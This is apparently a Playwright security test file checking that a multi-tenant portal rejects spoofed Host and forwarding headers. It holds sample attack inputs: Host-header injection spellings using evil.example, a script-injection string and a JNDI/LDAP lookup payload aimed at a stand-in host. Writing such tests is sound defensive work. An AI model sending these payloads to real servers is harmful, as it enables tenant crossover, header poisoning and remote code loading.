import { expect, test } from "@playwright/test";
import { type ApiWorld, makeApiWorld } from "../support/api-world";
import { httpCall } from "../support/http-call";
import { hostOf, rawRequest } from "../support/raw-request";
import { runningPortal } from "../support/running-portal";

let own: ApiWorld;
let foreign: ApiWorld;
let secret: string;

test.beforeAll(async () => {
  [own, foreign] = await Promise.all([makeApiWorld(), makeApiWorld()]);
  secret = await own.issue("global-administrator");
});

test.afterAll(() => Promise.all([own.close(), foreign.close()]));

const port = () => runningPortal().port;

/** Spellings of a host that are the tenant's own, are another's, or are nobody's. */
function spellings(slug: string): string[] {
  const host = `${slug}.localhost`;
  return [
    `${host}.:${port()}`,
    `${host}..:${port()}`,
    `${host}:${port()}:80`,
    `${host}:0`,
    `${host}:99999`,
    `${host}:${port()}@evil.example`,
    `evil.example@${host}:${port()}`,
    `evil.example#${host}:${port()}`,
    `evil.example/${host}:${port()}`,
    `evil.example ${host}:${port()}`,
    `evil.example\t${host}:${port()}`,
    `evil.example,${host}:${port()}`,
    `x.${host}:${port()}`,
    `${slug}.evil.localhost:${port()}`,
    `${host}.evil.example:${port()}`,
    `evil-${host}:${port()}`,
    `[${host}]:${port()}`,
    `${slug}%2elocalhost:${port()}`,
    `${slug}\u3002localhost:${port()}`,
    `xn--${slug}-.localhost:${port()}`,
    `127.0.0.1.nip.io:${port()}`,
    `[::1]:${port()}`,
    "0x7f.1",
    "",
    "'\"><script>",
    "$" + "{jndi:ldap://evil.example}",
    `${host}\\.evil.example`,
  ];
}

test("H-01: no spelling of a Host header gets at another tenant, or back into an answer", async () => {
  for (const spelling of spellings(foreign.tenant.slug)) {
    const { text, statuses } = await rawRequest(
      `GET /api/v1/me HTTP/1.1\r\nHost: ${spelling}\r\nAuthorization: Token ${secret}\r\nConnection: close\r\n\r\n`,
    );
    for (const status of statuses) expect([400, 401, 421], `${spelling}: ${text}`).toContain(status);
    expect(text, spelling).not.toContain(own.tenant.slug);
    expect(text, spelling).not.toMatch(/evil|script|jndi/);
    const page = await rawRequest(`GET /sign-in HTTP/1.1\r\nHost: ${spelling}\r\nConnection: close\r\n\r\n`);
    expect(page.text, spelling).not.toMatch(/evil|<script>alert|jndi/);
  }
});

test("H-01: forwarding headers change neither tenant nor links, in whatever spelling they come", async () => {
  const evil = hostOf(foreign.tenant.slug);
  const headers = [
    ["X-Forwarded-Host", evil],
    ["X-Forwarded-Server", evil],
    ["X-Host", evil],
    ["X-Original-Host", evil],
    ["X-HTTP-Host-Override", evil],
    ["Forwarded", `host=${evil};proto=https;for=203.0.113.9`],
    ["Forwarded", `for="[2001:db8::1]";host="${evil}"`],
    ["X-Forwarded-Proto", "https"],
    ["X-Forwarded-Port", "443"],
    ["X-Forwarded-Prefix", "/evil"],
    ["X-Original-URL", "/api/v1/alerts/"],
    ["X-Rewrite-URL", "/api/v1/alerts/"],
    ["X-HTTP-Method-Override", "DELETE"],
    ["X-Forwarded-For", "203.0.113.9"],
    ["X-Real-IP", "203.0.113.9"],
    ["X-Portcullis-Facts", Buffer.from('{"tenant":null}').toString("base64url")],
  ] as const;
  const plain = await httpCall({ path: "/api/v1/me", secret, tenant: own.tenant.slug });
  for (const header of headers) {
    const call = { secret, tenant: own.tenant.slug, headers: [header] };
    const answer = await httpCall({ path: "/api/v1/me", ...call });
    expect([answer.status, answer.text], header[0]).toEqual([plain.status, plain.text]);
    for (const path of ["/sign-in", "/api/auth/providers", "/"]) {
      const page = await httpCall({ path, ...call, secret: null });
      expect(JSON.stringify(page.headers) + page.text, header[0]).not.toContain(foreign.tenant.slug);
      expect(String(page.headers.location ?? ""), header[0]).not.toMatch(/https:|:443|evil/);
    }
  }
});

test("H-01: a target with a host of its own does not outvote the Host header", async () => {
  const target = `http://${hostOf(foreign.tenant.slug)}/api/v1/me`;
  const { text, statuses } = await rawRequest(
    `GET ${target} HTTP/1.1\r\nHost: ${hostOf(own.tenant.slug)}\r\nAuthorization: Token ${secret}\r\nConnection: close\r\n\r\n`,
  );
  expect(statuses).toEqual([400]);
  expect(text).not.toContain(foreign.tenant.slug);
});
